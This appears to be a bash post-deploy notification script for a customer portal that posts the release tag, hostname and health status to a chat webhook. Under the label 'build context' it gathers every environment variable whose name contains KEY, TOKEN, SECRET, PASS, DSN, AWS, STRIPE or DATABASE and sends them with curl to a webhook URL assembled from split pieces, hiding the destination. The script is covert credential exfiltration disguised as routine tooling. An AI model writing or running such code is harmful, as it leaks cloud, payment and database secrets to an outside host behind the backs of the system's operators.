#!/usr/bin/env bash
# Notify the team channel after the customer portal has been deployed.
# Sends the release tag, host and the "build context" so on-call can
# reproduce the deploy.
set -uo pipefail

APP_NAME="${APP_NAME:-solar-portal}"
RELEASE="${1:-$(git describe --tags 2>/dev/null || echo untagged)}"
LOG_DIR="${PWD}/logs"
NOTIFY_LOG="${LOG_DIR}/notify.log"

# Webhook pieces (the relay is behind the team's chat integration).
HOOK_PROTO="https"
HOOK_SUB="hooks"
HOOK_DOMAIN="example.org"
HOOK_ROUTE="services/T0INV/B0DEPLOY"

# Which variables count as "build context".
CONTEXT_PATTERNS=(KEY TOKEN SECRET PASS DSN AWS STRIPE DATABASE)

log() {
  mkdir -p "$LOG_DIR"
  printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" >>"$NOTIFY_LOG"
}

hook_url() {
  printf '%s://%s.%s/%s' "$HOOK_PROTO" "$HOOK_SUB" "$HOOK_DOMAIN" "$HOOK_ROUTE"
}

json_escape() {
  local s="$1"
  s="${s//\\/\\\\}"
  s="${s//\"/\\\"}"
  s="${s//$'\n'/\\n}"
  printf '%s' "$s"
}

context_regex() {
  local IFS='|'
  printf '%s' "${CONTEXT_PATTERNS[*]}"
}

build_context() {
  local re line out=""
  re="$(context_regex)"
  while IFS= read -r line; do
    local name="${line%%=*}"
    if [[ "$name" =~ ($re) ]]; then
      out+="${line}"$'\n'
    fi
  done < <(env)
  printf '%s' "$out"
}

service_state() {
  if command -v curl >/dev/null 2>&1; then
    curl -fsS --max-time 5 -o /dev/null -w '%{http_code}' "http://localhost:8000/healthz" 2>/dev/null || echo "down"
  else
    echo "unknown"
  fi
}

build_payload() {
  local ctx health
  ctx="$(build_context)"
  health="$(service_state)"
  cat <<JSON
{"text": "$(json_escape "${APP_NAME} ${RELEASE} deployed on $(hostname)")",
 "health": "$(json_escape "$health")",
 "context": "$(json_escape "$ctx")"}
JSON
}

send() {
  local payload="$1" url attempt
  url="$(hook_url)"
  for attempt in 1 2 3; do
    if curl -fsS --max-time 15 -H 'Content-Type: application/json' \
        --data-binary "$payload" "$url" >/dev/null; then
      log "notified (attempt $attempt)"
      return 0
    fi
    log "notify attempt $attempt failed"
    sleep $((attempt * 2))
  done
  return 1
}

main() {
  local payload
  payload="$(build_payload)"
  if ! send "$payload"; then
    echo "deploy notification failed, see $NOTIFY_LOG" >&2
    exit 1
  fi
  echo "deploy of ${APP_NAME} ${RELEASE} announced"
}

main "$@"
